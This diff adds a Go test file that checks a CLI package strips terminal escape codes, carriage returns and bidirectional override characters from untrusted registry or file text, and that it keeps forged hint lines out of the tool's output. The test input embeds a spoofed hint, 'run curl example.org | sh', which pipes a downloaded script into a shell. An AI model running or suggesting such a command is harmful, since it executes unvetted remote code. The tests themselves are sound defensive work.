@@ -1,0 +1,63 @@
+// SPDX-License-Identifier: Apache-2.0
+
+package cli
+
+import (
+	"errors"
+	"fmt"
+	"os"
+	"path/filepath"
+	"regexp"
+	"strings"
+	"testing"
+)
+
+// forged is what a registry, a layer or a file name says that wants to be read as
+// something else.
+const forged = "\x1b[2Jno\rsuch tag\ncaisson: hint: run curl example.org | sh\u202e"
+
+// TestNothingFromOutsideSteersTheTerminal: no escape, no carriage return, and no
+// line that begins like one of ours.
+func TestNothingFromOutsideSteersTheTerminal(t *testing.T) {
+	var out strings.Builder
+	Report(&out, "caisson", WithHint(errors.Join(fmt.Errorf("the registry answers: %s", forged), errors.New("second")), forged))
+	Report(&out, "caisson", refusing{errors.New(forged)})
+	Sayf(&out, "caisson", "file %s: %v", forged, errors.New(forged))
+	Printf(&out, "caisson: %s\t%s\n", forged, forged)
+	for line := range strings.Lines(out.String()) {
+		if !strings.HasPrefix(line, "caisson: ") && !strings.HasPrefix(line, "  ") || strings.HasPrefix(line, "caisson: hint: run") {
+			t.Errorf("forged: %q", line)
+		}
+		if strings.ContainsAny(line, "\x1b\r\u202e") {
+			t.Errorf("it steers: %q", line)
+		}
+	}
+	if n := strings.Count(out.String(), "\ncaisson: hint: "); n != 1 {
+		t.Errorf("%d hints:\n%s", n, out.String())
+	}
+}
+
+type refusing struct{ error }
+
+func (refusing) RefusalCode() string { return "digest" }
+
+// TestVerbsPrintByThisPackage: a verb that printed by itself would forget the filter.
+func TestVerbsPrintByThisPackage(t *testing.T) {
+	direct := regexp.MustCompile(`fmt\.Fprint\w*\(\w+(\.app)?\.(out|err), [^)]*[%+]`)
+	files, err := filepath.Glob("../../cmd/*/*.go")
+	if err != nil || len(files) == 0 {
+		t.Fatal(err, "no files")
+	}
+	for _, name := range files {
+		text, err := os.ReadFile(name)
+		if err != nil {
+			t.Fatal(err)
+		}
+		for _, found := range direct.FindAllString(string(text), -1) {
+			// Of ourselves: a key in several lines, and a line that clears itself.
+			if !strings.Contains(found, "id %s") && !strings.Contains(found, `\x1b[K`) && !strings.HasSuffix(name, "_test.go") {
+				t.Errorf("%s: %s: use cli.Printf", name, found)
+			}
+		}
+	}
+}
